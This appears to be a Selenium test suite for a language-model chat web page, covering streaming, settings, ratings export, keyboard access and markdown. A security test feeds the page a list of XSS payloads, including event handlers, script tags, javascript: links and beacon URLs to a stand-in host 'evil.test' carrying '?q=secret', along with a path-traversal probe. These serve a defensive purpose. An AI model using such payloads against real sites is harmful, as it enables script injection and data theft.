"""The chat page in real Chromium, in front of a server whose model says what the test wants."""

import json
import re
import time

import pytest

pytest.importorskip("selenium", reason="selenium is not installed")

from selenium.webdriver.common.action_chains import ActionChains
from selenium.webdriver.common.keys import Keys
from selenium.webdriver.support.ui import Select

from minigpt_tf.config import RecordsConfig
from minigpt_tf.records.reading import read_records
from tests.chromium import chromium
from tests.serving.browsing import ChatPage
from tests.serving.fake_api import FakeApi, serving, wait_for

CHAT = {
    "kind": "chat",
    "parameters": 134_515_008,
    "quantize": "int8",
    "context_length": 2048,
    "defaults": {"temperature": 0.7, "top_p": 0.9},
}
PLAIN = {"kind": "text", "parameters": 13_085_576, "context_length": 100}


@pytest.fixture(scope="module")
def window(tmp_path_factory):
    with chromium(tmp_path_factory.mktemp("chromium"), 1200, 900) as opened:
        yield opened


@pytest.fixture
def api():
    fake = FakeApi(models={"smollm2": CHAT, "ramanujan": PLAIN})
    with serving(fake.application()) as fake.url:
        yield fake


@pytest.fixture
def page(window, api):
    made = ChatPage(window, api.url).open()
    made.size(1200, 900)
    made.scheme("light")
    yield made
    assert not [c for c in made.complaints() if "status of 4" not in c and "status of 5" not in c]
    assert all(url.startswith((api.url, "blob:" + api.url)) for url in made.requested())


def test_text_grows_while_it_streams_and_stop_ends_it_on_the_server(page, api):
    api.words, api.pause = [f"word{n} " for n in range(500)], 0.05
    page.ask("Count")
    samples = [
        wait_for(lambda n=n: len(page.answers() or [""]) and len(page.answers()[-1]) > n)
        for n in (10, 40, 80)
    ]
    assert all(samples) and api.running == 1
    page.click("Stop")
    wait_for(lambda: api.running == 0)
    assert api.canceled == 1
    text = page.answer()
    assert text.startswith("word0 word1") and "word499" not in text
    assert "stopped" in page.find(".answer .stats").text
    api.words, api.pause = ["Yes."], 0
    page.ask("Another")
    wait_for(lambda: len(page.answers()) == 2)
    assert page.answer() == "Yes."
    sent = api.requests[-1]["messages"]
    assert [m["role"] for m in sent] == ["user", "assistant", "user"]
    assert sent[1]["content"].startswith("word0 word1")


def test_counts_rate_and_notices_are_shown(page, api):
    api.words, api.pause, api.notices = (
        ["one ", "two ", "three"],
        0.05,
        ["2 words are unknown: süß, 你"],
    )
    page.ask("Hi")
    assert page.answer() == "one two three"
    stats = page.find(".answer .stats").text
    assert re.fullmatch(r"3 tokens · [\d.]+ tokens/s · first after [\d.]+ s · prompt 7", stats)
    assert page.find(".answer .notice").text == "2 words are unknown: süß, 你"
    assert "135M parameters" in page.find("#facts").text


def test_the_record_that_an_answer_is_from_is_shown(page, api):
    api.records = [{"source": "faq.csv, line 2", "text": "Open at <b>8</b>.", "score": 0.5}]
    page.ask("Hours?")
    page.answer()
    assert page.find(".answer .notice").text == "faq.csv, line 2: Open at <b>8</b>."


def test_settings_start_from_the_models_defaults_and_only_changes_are_sent(page, api):
    page.click("Settings")
    assert page.find("#set-temperature").get_attribute("placeholder") == "0.7"
    assert page.find("#set-top_p").get_attribute("placeholder") == "0.9"
    page.find("#system").send_keys("Be brief.")
    page.find("#set-temperature").send_keys("0.2" + Keys.TAB)
    page.find("#set-seed").send_keys("5" + Keys.TAB)
    page.find("#set-max_tokens").send_keys("33" + Keys.TAB)
    page.click("Close the settings")
    page.ask("Hi")
    page.answer()
    sent = api.requests[-1]
    assert sent.pop("messages")[0] == {"role": "system", "content": "Be brief."}
    assert sent == {
        "model": "smollm2",
        "temperature": 0.2,
        "seed": 5,
        "max_tokens": 33,
        "truncate": True,
        "stream": True,
        "stream_options": {"include_usage": True},
    }


def test_answering_again_keeps_both_answers_and_ratings_become_records(page, api, tmp_path):
    api.words = ["First"]
    page.ask("Which?")
    page.answer()
    page.click("Bad answer")
    api.words = ["Second"]
    page.click("Answer again")
    wait_for(lambda: page.answers() == ["Second"])
    page.click("Good answer")
    assert page.find(".versions span").text == "2/2"
    page.click("Answer before")
    assert page.answers() == ["First"]
    folder = {"behavior": "allow", "downloadPath": str(tmp_path)}
    page.window.execute_cdp_cmd("Page.setDownloadBehavior", folder)
    page.click("Export ratings")
    (file,) = wait_for(lambda: list(tmp_path.glob("*.jsonl")))
    records = wait_for(lambda: [json.loads(line) for line in file.read_text().splitlines()])
    assert records == [{"prompt": "Which?", "chosen": "Second", "rejected": "First"}]
    page.click("Export all chats")
    (file,) = wait_for(lambda: list(tmp_path.glob("*.json")))
    (chat,) = json.loads(wait_for(file.read_text))["chats"]
    assert [version["content"] for version in chat["messages"][1]["versions"]] == [
        "First",
        "Second",
    ]
    (record,) = read_records(next(tmp_path.glob("*.jsonl")), RecordsConfig()).records
    assert (record.chosen, record.rejected) == ("Second", "First")


def test_editing_a_question_sends_it_again(page, api):
    page.ask("Wrong question")
    page.answer()
    page.ask("Second question")
    wait_for(lambda: len(page.answers()) == 2)
    page.answer()
    page.click("Edit and send again", last=False)
    page.type(Keys.CONTROL + "a")
    page.type("Right question" + Keys.ENTER)
    wait_for(lambda: len(api.requests) == 3)
    assert api.requests[-1]["messages"] == [{"role": "user", "content": "Right question"}]
    wait_for(lambda: len(page.answers()) == 1)


def test_reload_keeps_the_chat_and_another_tab_has_its_own(page, api):
    page.ask("Remember me")
    page.answer()
    page.window.refresh()
    wait_for(lambda: page.answers() == ["Hello there."])
    assert page.find(".bubble").text == "Remember me"
    first = page.window.current_window_handle
    page.window.switch_to.new_window("tab")
    try:
        page.window.get(api.url)
        wait_for(lambda: page.script("return document.getElementById('model').options.length"))
        assert page.answers() == []
        page.ask("In the second tab")
        page.answer()
    finally:
        page.window.close()
        page.window.switch_to.window(first)
    wait_for(lambda: page.titles() == ["In the second tab", "Remember me"])
    assert page.find(".bubble").text == "Remember me"
    page.script("document.querySelector('#chats .current button').click()")
    page.click("Delete")
    wait_for(lambda: page.titles() == ["In the second tab"])
    assert page.answers() == []


def test_a_model_without_a_template_continues_texts(page, api):
    Select(page.find("#model")).select_by_value("ramanujan")
    chat, continuing = page.find_all("#modes input")
    assert continuing.is_selected() and not chat.is_enabled()
    api.words = [" was", " a", " mathematician"]
    page.find("#text").send_keys("Ramanujan" + Keys.CONTROL + Keys.ENTER)
    text = lambda: page.find("#text").get_property("value")  # noqa: E731
    wait_for(lambda: text() == "Ramanujan was a mathematician")
    assert api.requests[-1]["prompt"] == "Ramanujan" and "messages" not in api.requests[-1]
    wait_for(lambda: page.find("#marks mark").get_property("textContent") == " was a mathematician")
    api.words = [" is", " known"]
    page.click("Try again")
    wait_for(lambda: text() == "Ramanujan is known")
    page.click("Undo")
    assert text() == "Ramanujan"
    assert "3 tokens" not in page.find("#written").text
    page.window.refresh()
    wait_for(lambda: text() == "Ramanujan")


def test_a_key_is_asked_for_once(page, api):
    api.key = "s3cret"
    page.open(ready=False)
    field = wait_for(lambda: page.find("#key-dialog[open] input"))
    field.send_keys("wrong" + Keys.ENTER)
    wait_for(lambda: "does not accept" in page.find("#key-reason").text)
    page.find("#key").send_keys("s3cret" + Keys.ENTER)
    page.wait_for_models()
    page.ask("Hi")
    assert page.answer() == "Hello there."
    page.window.refresh()
    page.wait_for_models()
    page.ask("Again")
    wait_for(lambda: len(page.answers()) == 2)
    assert not page.find_all("dialog[open]")
    stored = page.script("return JSON.stringify(localStorage)")
    assert "s3cret" not in stored


def test_errors_are_sentences_in_the_chat(page, api):
    api.fails = 1
    page.ask("Hi")
    wait_for(lambda: page.find_all(".answer .notice.error"))
    assert page.find(".answer .notice.error").text == "the server is overloaded: try again"
    api.breaks_after = 2
    page.click("Answer again")
    wait_for(lambda: page.answers() == ["Hello there"])
    wait_for(lambda: page.find(".answer .notice.error").text == "the engine failed")


def test_everything_works_by_keyboard(page, api):
    assert page.window.switch_to.active_element.get_attribute("id") == "prompt"
    page.type("By hand" + Keys.SHIFT + Keys.ENTER + Keys.SHIFT + "alone" + Keys.ENTER)
    page.answer()
    assert api.requests[-1]["messages"][0]["content"] == "By hand\nalone"
    page.type(Keys.ARROW_UP)  # edits the last question
    page.type(Keys.CONTROL + "a")
    page.type("Changed" + Keys.ENTER)
    wait_for(lambda: len(api.requests) == 2)
    page.answer()
    ActionChains(page.window).key_down(Keys.ALT).send_keys("s").key_up(Keys.ALT).perform()
    assert page.find("#settings").is_displayed()
    assert page.window.switch_to.active_element.get_attribute("id") == "system"
    page.type(Keys.ESCAPE)
    assert not page.find("#settings").is_displayed()
    reached = set()
    for _ in range(40):
        page.type(Keys.TAB)
        active = page.window.switch_to.active_element
        reached.add(active.get_attribute("aria-label") or active.get_attribute("id"))
    wanted = {
        "Settings",
        "model",
        "Copy",
        "Answer again",
        "Good answer",
        "new-chat",
        "Your message",
    }
    assert wanted <= reached
    api.words, api.pause = ["x "] * 200, 0.05
    page.find("#prompt").send_keys("Long" + Keys.ENTER)
    wait_for(lambda: api.running)
    page.type(Keys.ESCAPE)
    wait_for(lambda: api.canceled)
    ActionChains(page.window).key_down(Keys.ALT).send_keys("n").key_up(Keys.ALT).perform()
    assert page.answers() == []


def test_a_narrow_screen_shows_everything_without_scrolling_sideways(page, api):
    api.words = [
        "a" * 300,
        "\n\n```\n",
        "x" * 200,
        "\n```\n\n| a | b |\n|---|---|\n|",
        " wide" * 60,
        "|c|",
    ]
    page.size(360, 740)
    page.ask("Narrow")
    page.answer()
    boxes = "[document.documentElement, document.getElementById('conversation')]"
    assert max(page.script(f"return {boxes}.map(box => box.scrollWidth)")) <= 360
    page.click("Chats")
    wait_for(lambda: page.find("#new-chat").is_displayed())
    page.type(Keys.ESCAPE)
    page.click("Settings")
    box = page.find("#settings").rect
    assert box["x"] >= 0 and box["x"] + box["width"] <= 361
    page.click("Close the settings")


def luminance(color: str) -> float:
    red, green, blue = (int(part) / 255 for part in re.findall(r"\d+", color)[:3])
    return 0.2126 * red + 0.7152 * green + 0.0722 * blue


def test_dark_follows_the_system_and_can_be_chosen(page):
    background = "return getComputedStyle(document.body).backgroundColor"
    assert luminance(page.script(background)) > 0.9
    page.scheme("dark")
    assert luminance(page.script(background)) < 0.1
    page.click("Theme: as the system")
    assert luminance(page.script(background)) > 0.9
    page.window.refresh()
    assert luminance(page.script(background)) > 0.9


HOSTILE = """<img src=x onerror="window.hacked=1"> <script>window.hacked=1</script>
<svg onload="window.hacked=1"><iframe srcdoc="<script>parent.hacked=1</script>"></iframe>
[click](javascript:window.hacked=1) [click](JaVaScRiPt:window.hacked=1)
[d](data:text/html,<script>1</script>) <javascript:alert(1)>
![](http://evil.test/?q=secret) ![x](https://evil.test/pixel.png) [v](vbscript:1)
[ok](https://example.com/a?b=c) **<b onmouseover=alert(1)>bold</b>** `<img src=y>`

| <img src=z onerror=alert(1)> | [j](javascript:1) |
|---|---|
| <style>*{background:url(http://evil.test/css)}</style> | b |

```html
<img src=x onerror="window.hacked=1">
```
"""


def test_what_a_model_says_is_never_html(page, api):
    api.words = re.findall(r"\S*\s*", HOSTILE)
    page.ask('<img src=x onerror="window.hacked=1">')
    answer = page.answer()
    assert page.script("return window.hacked") is None
    assert '<img src=x onerror="window.hacked=1">' in answer and "<script>" in answer
    assert page.find(".bubble").text == '<img src=x onerror="window.hacked=1">'
    tags = page.script("return [...document.querySelectorAll('#messages *')].map(e => e.tagName)")
    assert not {"IMG", "SCRIPT", "IFRAME", "STYLE", "OBJECT", "EMBED", "FORM"} & set(tags)
    links = {link.get_attribute("href") for link in page.find_all(".answer a")}
    assert links == {
        "https://example.com/a?b=c",
        "http://evil.test/css",
        "http://evil.test/?q=secret",
        "https://evil.test/pixel.png",
    }
    for link in page.find_all(".answer a"):
        assert "noopener" in link.get_attribute("rel")
    page.window.refresh()
    page.answer()
    assert page.script("return window.hacked") is None


def test_the_policy_stops_a_script_that_gets_in_all_the_same(page):
    with pytest.raises(Exception, match="TrustedHTML"):
        page.script("document.body.innerHTML = '<img src=x onerror=window.hacked=1>'")
    page.script(
        "const s = document.createElement('img'); s.src = 'http://127.0.0.2:9/x.png';"
        "document.body.append(s)"
    )
    time.sleep(0.3)
    assert any("Content Security Policy" in text for text in page.complaints())
    page.log = []


MARKDOWN = {
    "a *b* **c** `g*h*`": "<p>a <em>b</em> <strong>c</strong> <code>g*h*</code></p>",
    "_d_ __e__ ~~f~~": "<p><em>d</em> <strong>e</strong> <del>f</del></p>",
    "snake_case_name 2 * 3 * 4 a**b": "<p>snake_case_name 2 * 3 * 4 a**b</p>",
    "\\*not\\* emphasis": "<p>*not* emphasis</p>",
    "# One\n### Two": "<h2>One</h2><h4>Two</h4>",
    "- a\n- b\n  - c\n- d": "<ul><li>a</li><li>b<ul><li>c</li></ul></li><li>d</li></ul>",
    "3. a\n4. b": '<ol start="3"><li>a</li><li>b</li></ol>',
    "> a\n> > b": "<blockquote><p>a</p><blockquote><p>b</p></blockquote></blockquote>",
    "a\nb\n\nc": "<p>a<br>b</p><p>c</p>",
    "***": "<hr>",
    "x | y\nz": "<p>x | y<br>z</p>",
    "**open and `open": "<p>**open and `open</p>",
    "1 < 2 && <b>": "<p>1 &lt; 2 &amp;&amp; &lt;b&gt;</p>",
}


@pytest.mark.parametrize("text", MARKDOWN)
def test_markdown(page, text):
    code = """
    const done = arguments[arguments.length - 1];
    import(new URL("page/markdown.js", document.baseURI)).then(({markdown}) => {
      const box = document.createElement("div");
      box.append(...markdown(arguments[0]));
      done(box.innerHTML);
    }, (error) => done(String(error)));
    """
    assert page.window.execute_async_script(code, text) == MARKDOWN[text]


def test_markdown_of_pathological_texts_ends(page):
    code = """
    const done = arguments[arguments.length - 1];
    const texts = ["*", "`", "[", "![", "**a ", "> ", "- ", "|", "~~", "# ", " ", "a_", "[a]("];
    import(new URL("page/markdown.js", document.baseURI)).then(({markdown}) => {
      done(texts.map((text) => {
        const nodes = markdown(text.repeat(Math.ceil(50000 / text.length)));
        return nodes.length + markdown(`${text}\\n`.repeat(8000)).length;
      }));
    }, (error) => done(String(error)));
    """
    page.window.set_script_timeout(60)
    assert len(page.window.execute_async_script(code)) == 13


def test_the_files_are_cached_by_their_contents(api):
    import httpx

    first = httpx.get(f"{api.url}/page/main.js")
    assert first.headers["content-type"].startswith("text/javascript")
    assert "default-src 'self'" in first.headers["content-security-policy"]
    again = httpx.get(f"{api.url}/page/main.js", headers={"If-None-Match": first.headers["etag"]})
    assert (again.status_code, again.content) == (304, b"")
    assert httpx.get(f"{api.url}/page/..%2F__init__.py").status_code == 404
    assert httpx.get(f"{api.url}/page/none.js").status_code == 404
